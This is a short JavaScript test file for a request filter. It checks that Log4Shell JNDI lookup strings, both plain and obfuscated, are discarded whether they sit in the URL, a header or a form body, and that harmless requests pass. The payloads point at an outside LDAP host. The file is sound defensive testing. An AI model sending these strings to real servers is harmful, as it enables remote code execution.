const attack = '${jndi:ldap://192.0.2.66/a}';
const discarded = (exchange) => expect(run(exchange).decision).is('discard');

test('in the URL', () => discarded({url: '/?q=$%7Bjndi:ldap://192.0.2.66/a%7D'}));
test('in a header', () => discarded({headers: {'X-Api': attack}}));
test('in the body of a form', () => discarded({method: 'POST', body: 'a=' + attack}));
test('nested', () => discarded({headers: {'User-Agent': '${${lower:j}ndi:${lower:l}dap://192.0.2.66/a}'}}));
test('with a default', () => discarded({headers: {Referer: '${${env:NOTHING:-j}ndi${::-:}ldap://192.0.2.66/a}'}}));
test('innocent requests pass', () => expect(
    run({method: 'POST', url: '/?price=$5', headers: {'X-A': '${name}'}, body: '{"jndi": "${a}"}'}).decision).is('continue'));
